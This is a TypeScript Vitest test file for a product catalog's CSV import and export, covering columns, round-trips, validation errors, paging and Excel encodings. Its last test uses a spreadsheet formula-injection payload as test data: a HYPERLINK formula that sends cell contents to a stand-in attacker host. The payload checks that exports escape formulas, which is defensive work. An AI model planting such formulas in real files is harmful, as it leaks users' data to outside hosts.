import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../test/support/app.ts';
import { parseCsv } from './csv.ts';
import { exportProductsCsv } from './export.ts';
import { importProductsCsv } from './import.ts';
import type { Product } from './schema.ts';

let t: TestApp;
let fresh: TestApp;
const CHANNELS = [
  ['web', 'Web Shop'],
  ['app', 'App'],
  ['pos', 'Downtown POS'],
] as const;
let ids: Record<string, string> = {};

const setupChannels = async (app: TestApp) => {
  const out: Record<string, string> = {};
  for (const [type, name] of CHANNELS) out[name] = (await app.channel(type, name)).id;
  return out;
};

const exportText = async (app: TestApp, pageSize?: number): Promise<string> => {
  let text = '';
  for await (const chunk of exportProductsCsv(app.deps.db, {}, pageSize)) text += chunk;
  return text;
};

const eventCount = async (app: TestApp) =>
  Number((await app.deps.db.query<{ n: number }>('SELECT count(*)::int AS n FROM outbox_events')).rows[0]?.n);

beforeAll(async () => {
  t = await createTestApp();
  fresh = await createTestApp();
  ids = await setupChannels(t);
  const cat = (await t.admin<{ id: string }>('POST', '/categories', { name: 'Tops' })).body.id;
  const col = (await t.admin<{ id: string }>('POST', '/collections', { title: 'New Arrivals' })).body.id;
  const tee = await t.admin<Product>('POST', '/products', {
    title: 'Merino Tee, "Classic"',
    description: 'Soft merino.\nMachine washable.',
    status: 'published',
    option_names: ['size', 'color'],
    attributes: { material: 'merino' },
    image_urls: ['https://img.example/tee-1.jpg', 'https://img.example/tee-2.jpg'],
    category_ids: [cat],
    collection_ids: [col],
    variants: [
      {
        sku: 'TEE-M-BLK',
        barcode: '4006381333931',
        options: { size: 'M', color: 'Black' },
        weight_grams: 210,
        prices: [
          { channel_id: ids['Web Shop'] as string, amount: 3900 },
          { channel_id: ids.App as string, amount: 3700, compare_at_amount: 3900 },
          { channel_id: ids['Downtown POS'] as string, amount: 3900 },
          {
            channel_id: ids['Web Shop'] as string,
            amount: 2900,
            starts_at: '2026-02-01T00:00:00Z',
            ends_at: '2026-02-08T00:00:00Z',
          },
        ],
      },
      { sku: 'TEE-L-BLK', options: { size: 'L', color: 'Black' }, title: 'Large black' },
    ],
  });
  expect(tee.status).toBe(201);
  await t.admin('PUT', `/products/${tee.body.id}/channels/${ids['Web Shop']}`);
  await t.admin('PUT', `/products/${tee.body.id}/channels/${ids.App}`);
  const tent = await t.admin<Product>('POST', '/products', {
    title: 'Tent 2P',
    variants: [{ sku: 'TENT-2P' }],
  });
  expect(tent.status).toBe(201);
});
afterAll(async () => {
  await t.close();
  await fresh.close();
});

describe('CSV export', () => {
  it('writes one row per variant with documented columns, base prices per channel', async () => {
    const r = await t.admin('GET', '/products/export');
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(r.headers['content-disposition']).toContain('products.csv');
    const rows = parseCsv(r.text).map((x) => x.fields);
    expect(rows[0]).toEqual([
      'handle',
      'title',
      'description',
      'status',
      'categories',
      'collections',
      'channels',
      'image_urls',
      'attributes',
      'sku',
      'barcode',
      'variant_title',
      'position',
      'weight_grams',
      'option1_name',
      'option1_value',
      'option2_name',
      'option2_value',
      'option3_name',
      'option3_value',
      'price:Web Shop',
      'compare_at:Web Shop',
      'price:App',
      'compare_at:App',
      'price:Downtown POS',
      'compare_at:Downtown POS',
    ]);
    expect(rows.slice(1)).toEqual([
      [
        'merino-tee-classic',
        'Merino Tee, "Classic"',
        'Soft merino.\nMachine washable.',
        'published',
        'tops',
        'new-arrivals',
        'Web Shop|App',
        'https://img.example/tee-1.jpg|https://img.example/tee-2.jpg',
        '{"material":"merino"}',
        'TEE-M-BLK',
        '4006381333931',
        'M / Black',
        '0',
        '210',
        'size',
        'M',
        'color',
        'Black',
        '',
        '',
        '3900',
        '',
        '3700',
        '3900',
        '3900',
        '',
      ],
      expect.arrayContaining(['TEE-L-BLK', 'Large black']),
      [
        'tent-2p',
        'Tent 2P',
        '',
        'draft',
        '',
        '',
        '',
        '',
        '',
        'TENT-2P',
        '',
        'Default',
        '0',
        '',
        ...Array(12).fill(''),
      ],
    ]);
  });

  it('filters the export by status', async () => {
    const r = await t.admin('GET', '/products/export?status=draft');
    expect(parseCsv(r.text).map((x) => x.fields[0])).toEqual(['handle', 'tent-2p']);
  });
});

describe('CSV import', () => {
  it('round-trips: an export imported into an empty catalog exports the same text', async () => {
    const text = await exportText(t);
    await setupChannels(fresh);
    const report = await importProductsCsv(fresh.deps, text);
    expect(report.errors).toEqual([]);
    expect(report).toMatchObject({ rows: 3, products_created: 2, variants_created: 3 });
    expect(await exportText(fresh)).toBe(text);
    const views = await fresh.admin<{ data: { channels: unknown[]; handle: string }[] }>('GET', '/products');
    expect(views.body.data.find((p) => p.handle === 'merino-tee-classic')?.channels).toHaveLength(2);
  });

  it('is idempotent: importing the export again changes nothing and writes no event', async () => {
    const text = await exportText(t);
    const events = await eventCount(t);
    const report = await importProductsCsv(t.deps, text);
    expect(report).toMatchObject({
      errors: [],
      products_created: 0,
      products_updated: 0,
      variants_created: 0,
      variants_updated: 0,
      prices_changed: 0,
    });
    expect(await eventCount(t)).toBe(events);
    // The scheduled price (not in the CSV) is kept.
    const { rows } = await t.deps.db.query('SELECT 1 FROM prices WHERE starts_at IS NOT NULL');
    expect(rows).toHaveLength(1);
  });

  it('updates by handle and SKU without duplicating, with the events of what changed', async () => {
    const csv = [
      'handle,title,sku,price:web shop,option1_name,option1_value,option2_name,option2_value',
      'merino-tee-classic,Merino Tee Classic,TEE-M-BLK,4100,size,M,color,Black',
      'merino-tee-classic,,TEE-S-BLK,4100,size,S,color,Black',
    ].join('\n');
    const before = await t.deps.db.query<{ n: number }>('SELECT count(*)::int AS n FROM variants');
    const report = await importProductsCsv(t.deps, csv);
    expect(report).toMatchObject({
      errors: [],
      products_updated: 1,
      variants_created: 1,
      prices_changed: 2,
    });
    const after = await t.deps.db.query<{ n: number }>('SELECT count(*)::int AS n FROM variants');
    expect(after.rows[0]?.n).toBe((before.rows[0]?.n ?? 0) + 1);
    const { rows } = await t.deps.db.query<{ type: string; data: Record<string, unknown> }>(
      `SELECT type, data FROM outbox_events WHERE type IN ('product.updated', 'price.changed') ORDER BY seq DESC LIMIT 3`,
    );
    expect(rows.map((r) => r.type).sort()).toEqual(['price.changed', 'price.changed', 'product.updated']);
    expect(rows.find((r) => r.type === 'product.updated')?.data.changed).toEqual(['title', 'variants']);
    expect(rows.find((r) => r.data.sku === 'TEE-M-BLK')?.data).toMatchObject({
      old_amount: 3900,
      new_amount: 4100,
    });
    // Columns absent from the file are left alone: categories, channels, barcode, other prices.
    const tee = await t.admin<{ data: Product[] }>('GET', '/products?sku=TEE-M-BLK');
    expect(tee.body.data[0]).toMatchObject({ title: 'Merino Tee Classic', channels: [{}, {}] });
  });

  it('reports bad rows with their line numbers and imports the valid ones', async () => {
    const csv = [
      'handle,title,status,channels,sku,barcode,option1_name,option1_value,price:Web Shop,compare_at:Web Shop,price:Nowhere',
      'hiking-boot,Hiking Boot,published,Web Shop,BOOT-9,4006381333948,size,9,12900,,',
      'hiking-boot,,,,BOOT-10,4006381333955,size,10,19.99,,',
      'hiking-boot,,,,BOOT-11,4006381333962,size,11,12900,12000,',
      'hiking-boot,,,,BOOT-12,4006381333901,size,12,12900,,',
      'hiking-boot,,,,BOOT-9B,,size,9,12900,,',
      'hiking-boot,,,,BOOT-13,,size,13,12900,,500',
      'hiking-boot,,,,TEE-L-BLK,,size,14,12900,,',
      'hiking-boot,,,,bad sku,,size,15,,,',
      'sandal,,,,SANDAL-1,,,,,,',
      'poncho,Poncho,published,Mars Store,PONCHO-1,,,,,,',
      'Bad Handle,X,,,X-1,,,,,,',
      'hiking-boot,,,,BOOT-9,,size,9b,,,',
    ].join('\r\n');
    const report = await importProductsCsv(t.deps, csv);
    expect(report.rows).toBe(12);
    expect(report.errors.map((e) => [e.line, e.message])).toEqual([
      [3, expect.stringContaining('"19.99" must be an integer in minor units')],
      [4, expect.stringContaining('compare_at 12000 must be greater than the price 12900')],
      [5, expect.stringContaining('check digit')],
      [6, expect.stringContaining('duplicate option combination')],
      [7, expect.stringContaining('unknown channel "Nowhere"')],
      [8, 'SKU TEE-L-BLK belongs to product merino-tee-classic'],
      [9, expect.stringContaining('SKU must be 1-64 characters')],
      [10, 'title is required for a new product'],
      [11, 'unknown channel "Mars Store" in channels'],
      [12, expect.stringContaining('handle "Bad Handle"')],
      [13, expect.stringContaining('appears more than once (first on line 2)')],
    ]);
    expect(report).toMatchObject({ products_created: 1, variants_created: 1 });
    const boot = await t.admin<{ data: Product[] }>('GET', '/products?q=hiking');
    expect(boot.body.data[0]).toMatchObject({ handle: 'hiking-boot', status: 'published', variant_count: 1 });
    expect(boot.body.data[0]?.channels.map((c) => c.channel_id)).toEqual([ids['Web Shop']]);
  });

  it('refuses a file with an unknown column before importing anything', async () => {
    const report = await importProductsCsv(t.deps, 'handle,sku,colour\nx,X-1,red\n');
    expect(report.errors).toEqual([{ line: 1, handle: '', message: 'unknown column "colour"' }]);
    expect(report.variants_created).toBe(0);
    const broken = await importProductsCsv(t.deps, 'handle,sku\nx,"X-1\n');
    expect(broken.errors[0]).toMatchObject({ line: 2, message: expect.stringContaining('unterminated') });
  });

  it('status and channels columns are authoritative: draft takes the product off its channels', async () => {
    const events = await eventCount(t);
    const report = await importProductsCsv(t.deps, 'handle,status,sku\nhiking-boot,draft,BOOT-9\n');
    expect(report.errors).toEqual([]);
    const { rows } = await t.deps.db.query<{ type: string }>(
      'SELECT type FROM outbox_events ORDER BY seq OFFSET $1',
      [events],
    );
    expect(rows.map((r) => r.type).sort()).toEqual(['product.unpublished', 'product.updated']);
  });
});

describe('export paging', () => {
  it('streams every variant across many pages', async () => {
    const csv = ['handle,title,sku,option1_name,option1_value'];
    for (let i = 0; i < 25; i++) {
      for (const size of ['S', 'M']) csv.push(`bulk-${i},Bulk ${i},BULK-${i}-${size},size,${size}`);
    }
    const report = await importProductsCsv(fresh.deps, csv.join('\n'), { batchRows: 7 });
    expect(report.errors).toEqual([]);
    expect(report.variants_created).toBe(50);
    const whole = await exportText(fresh);
    const paged = await exportText(fresh, 4);
    expect(paged).toBe(whole);
    expect(parseCsv(whole)).toHaveLength(1 + 3 + 50);
  });
});

describe('files from spreadsheets', () => {
  it('reads semicolon files as Excel writes them in France or Germany (BOM, CRLF, ;)', async () => {
    const excel = '\uFEFFhandle;title;sku;price:Web Shop\r\nberet-basque;Béret basque; BERET-1 ;2500\r\n';
    const report = await importProductsCsv(t.deps, Buffer.from(excel, 'utf8'));
    expect(report.errors).toEqual([]);
    expect(report).toMatchObject({ rows: 1, products_created: 1, variants_created: 1 });
    const beret = await t.admin<{ data: Product[] }>('GET', '/products?q=basque');
    expect(beret.body.data[0]).toMatchObject({ handle: 'beret-basque', title: 'Béret basque' });
    // Tab-separated text too.
    expect(
      (await importProductsCsv(t.deps, 'handle\ttitle\tsku\nbonnet\tBonnet\tBONNET-1\n')).errors,
    ).toEqual([]);
  });

  it('reports lines that are not UTF-8 one by one and imports the rest', async () => {
    const latin1 = Buffer.from(
      'handle,title,sku\r\nsabot,Sabot,SABOT-1\r\nberet-rouge,B\xe9ret rouge,BERET-2\r\n',
      'latin1',
    );
    const report = await importProductsCsv(t.deps, latin1);
    expect(report.rows).toBe(2);
    expect(report.errors).toEqual([
      { line: 3, handle: '', message: expect.stringContaining('not valid UTF-8') },
    ]);
    expect(report).toMatchObject({ products_created: 1, variants_created: 1 });
    const header = await importProductsCsv(t.deps, Buffer.from('h\xe9ndle,sku\nx,X-9\n', 'latin1'));
    expect(header.errors).toEqual([
      { line: 1, handle: '', message: expect.stringContaining('not valid UTF-8') },
    ]);
  });

  it('escapes formulas on export (OWASP) and imports them back unchanged', async () => {
    const title = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
    const ok = await importProductsCsv(
      t.deps,
      `handle,title,description,sku\r\nformula-tee,"${title.replaceAll('"', '""')}",@SUM(1+1),TEE-F\r\n`,
    );
    expect(ok.errors).toEqual([]);
    const text = await exportText(t);
    const row = text.split('\r\n').find((l) => l.startsWith('formula-tee,')) as string;
    expect(row).toContain(`"'=HYPERLINK(`);
    expect(row).toContain(",'@SUM(1+1),");
    expect(row).not.toMatch(/,=|,@|,"=/);
    const again = await importProductsCsv(t.deps, text);
    expect(again).toMatchObject({ errors: [], products_updated: 0, variants_updated: 0 });
    const { rows } = await t.deps.db.query<{ title: string; description: string }>(
      "SELECT title, description FROM products WHERE handle = 'formula-tee'",
    );
    expect(rows[0]).toEqual({ title, description: '@SUM(1+1)' });
  });
});
